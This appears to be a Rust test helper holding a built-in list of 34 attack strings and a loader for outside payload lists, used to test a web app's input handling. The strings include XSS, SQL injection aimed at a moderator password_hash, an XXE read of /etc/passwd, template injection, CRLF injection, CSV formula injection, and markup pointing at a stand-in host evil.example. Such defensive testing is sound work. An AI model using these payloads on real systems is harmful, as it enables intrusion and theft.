//! Text that people attack with: a list of our own, and the lists beside the repository, if they
//! are there.

use std::path::{Path, PathBuf};

/// One of each idea; always tried, by every way in.
pub(crate) const OWN: [&str; 34] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title></style></textarea></script><svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "javascript:alert(1)//<!--",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Gửi</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--#exec cmd=\"ls\"--> <!--#include virtual=\"/healthz\" -->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;",
    "'; drop table comment; --",
    "\" or 1=1) union select password_hash from moderator --",
    "%27%22%3E%3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0aSet-Cookie:a=b",
    "đò\u{202e}<b>ngược</b>\u{202c}\u{2066}\u{200b}\u{feff}đò",
    "Z\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}algo <i>đò</i>",
    "đò\u{2028}alert(1)\u{2029}<script>\u{85}",
    "＜script＞alert(1)＜/script＞ ‹script› ʺ onload=alert(1)",
    "=cmd|' /C calc'!A0 @SUM(1+1) +1 -1 \\\\evil\\share file:///etc/passwd",
];

/// Where the lists are: beside the repository.
fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/payloads")
}

/// The lines of a list; none, and a word about it, if it is not there.
pub(crate) fn list(name: &str) -> Vec<String> {
    let Ok(text) = std::fs::read_to_string(folder().join(name)) else {
        eprintln!("left out: there is no list ../shared/payloads/{name}");
        return Vec::new();
    };
    if name.ends_with(".json") {
        return serde_json::from_str(&text).expect("a list of texts");
    }
    text.lines().map(str::to_owned).collect()
}

/// Everything on the lists, or on a push a sample of it; `CODAU_PAYLOADS=all` for everything.
pub(crate) fn listed() -> Vec<String> {
    let names = [
        "blns.json",
        "xss-IntrudersXSS.txt",
        "xss-JHADDIX_XSS.txt",
        "xss-XSSDetection.txt",
        "crlf.txt",
    ];
    let all: Vec<String> = names.into_iter().flat_map(list).collect();
    if std::env::var_os("CODAU_PAYLOADS").is_some_and(|value| value == "all") {
        return all;
    }
    let (step, first) = (25, rand::random_range(0..25));
    eprintln!("a sample of the lists: each {step}th from the {first}th");
    all.into_iter().skip(first).step_by(step).collect()
}
